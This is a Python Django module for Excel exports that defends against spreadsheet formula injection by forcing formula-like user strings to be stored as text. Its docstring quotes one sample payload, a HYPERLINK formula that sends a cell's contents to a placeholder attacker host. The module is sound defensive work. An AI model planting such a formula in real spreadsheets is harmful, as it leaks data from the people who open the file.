"""Excel workbooks: the one way the platform builds them (`new_workbook`, `workbook_bytes`), and the audit
trail's workbook.

User text is written as text. A string that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
(OWASP, "CSV Injection") is one a spreadsheet may run as a formula: `=HYPERLINK("http://evil.example/?leak="&A2)`
in a listing title would send the next cell's content away when the office opens the download. openpyxl
itself turns every string starting with `=` into a formula cell. So, when the workbook is saved, each such
string is given the explicit string type (`t="inlineStr"`: the file holds it as text, which Excel and
LibreOffice display and never evaluate) and Excel's quote-prefix flag (`quotePrefix="1"`, what Excel sets
when a person types `'=…`: the cell stays text even after it is edited). The text itself is unchanged — no
visible apostrophe — and openpyxl reads it back as a string (`data_type == "s"`). Numbers (int, Decimal,
float) stay numeric cells. No export writes a formula of its own.
"""

from io import BytesIO

from django.utils.functional import Promise
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.styles import Font

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class SafeWorkbook(Workbook):
    """An openpyxl workbook whose `save` first writes every formula-like string as text (module docstring)."""

    def save(self, filename) -> None:
        for sheet in self.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                        cell.data_type = "s"
                        cell.quotePrefix = True
        super().save(filename)


def new_workbook() -> SafeWorkbook:
    """The workbook every export builds on: fill it as any openpyxl workbook, return `workbook_bytes(wb)`."""
    return SafeWorkbook()


def workbook_bytes(wb: SafeWorkbook) -> bytes:
    buf = BytesIO()
    wb.save(buf)
    return buf.getvalue()


def audit_workbook(events) -> bytes:
    wb = new_workbook()
    ws = wb.active
    ws.title = _("审计记录")
    ws.append([_("时间"), _("操作人"), _("单位"), _("操作"), _("对象"), _("摘要"), _("变更前"), _("变更后")])
    for c in ws[1]:
        c.font = Font(bold=True)
    for e in events:
        ws.append(
            [
                e.at.strftime("%Y-%m-%d %H:%M:%S"),
                str(e.actor or ""),
                str(e.organization or ""),
                e.action,
                f"{e.object_type}#{e.object_id}",
                e.summary,
                str(e.before or ""),
                str(e.after or ""),
            ]
        )
    for col, width in zip("ABCDEFGH", [20, 16, 24, 22, 18, 40, 40, 40], strict=True):
        ws.column_dimensions[col].width = width
    return workbook_bytes(wb)


def table_workbook(title: str, headers: list, rows) -> bytes:
    """One sheet: a bold header row, then the rows (dates as dates, numbers as numbers, text as text)."""
    wb = new_workbook()
    ws = wb.active
    ws.title = str(title)[:31]
    ws.append([str(h) for h in headers])
    for c in ws[1]:
        c.font = Font(bold=True)
    for row in rows:  # a lazy translation (a model's choice label) is written as its text
        ws.append([str(v) if isinstance(v, Promise) else v for v in row])
    for n, _header in enumerate(headers):
        ws.column_dimensions[ws.cell(row=1, column=n + 1).column_letter].width = 18
    return workbook_bytes(wb)
